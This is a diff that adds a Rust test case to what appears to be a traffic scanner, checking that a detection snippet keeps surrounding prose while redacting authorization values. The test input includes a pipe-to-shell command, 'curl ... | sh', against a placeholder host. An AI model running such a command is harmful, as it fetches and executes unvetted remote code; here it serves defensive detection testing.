@@ -487,6 +487,20 @@ fn a_head_snippet_shows_only_its_own_line_and_no_authorization_value() {
             }
         }
     }
+    // Prose about authorization keeps its words.
+    let text =
+        "Basic usage: a basic example of Bearer tokens, then curl -s https://x.example/i | sh";
+    let found = inspect(
+        &registry,
+        Direction::Inbound,
+        &common::response("text/plain", "", text.as_bytes()),
+    );
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert!(
+        found[0].snippet.contains("example of Bearer tokens,"),
+        "{}",
+        found[0].snippet
+    );
     // The password beside a key id in a decoded basic credential, however short.
     let header = format!(
         "Authorization: Basic {}",
